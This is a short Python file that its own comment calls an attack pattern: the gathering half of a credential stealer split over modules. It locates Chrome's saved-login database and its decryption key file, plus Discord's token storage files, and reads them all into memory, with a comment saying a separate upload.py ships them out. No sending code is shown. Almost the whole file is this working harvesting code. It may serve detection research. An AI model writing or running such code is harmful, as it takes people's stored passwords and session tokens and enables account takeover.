# Attack pattern: stealer split over modules: this one gathers browser and Discord stores, upload.py ships them.
import glob
import os

LOCAL = os.environ.get("LOCALAPPDATA", os.path.expanduser("~/.config"))
TARGETS = [
    os.path.join(LOCAL, "Google", "Chrome", "User Data", "Default", "Login Data"),
    os.path.join(LOCAL, "Google", "Chrome", "User Data", "Local State"),
] + glob.glob(os.path.join(os.environ.get("APPDATA", ""), "discord", "Local Storage", "leveldb", "*.ldb"))


def gather():
    return {path: open(path, "rb").read() for path in TARGETS if os.path.exists(path)}
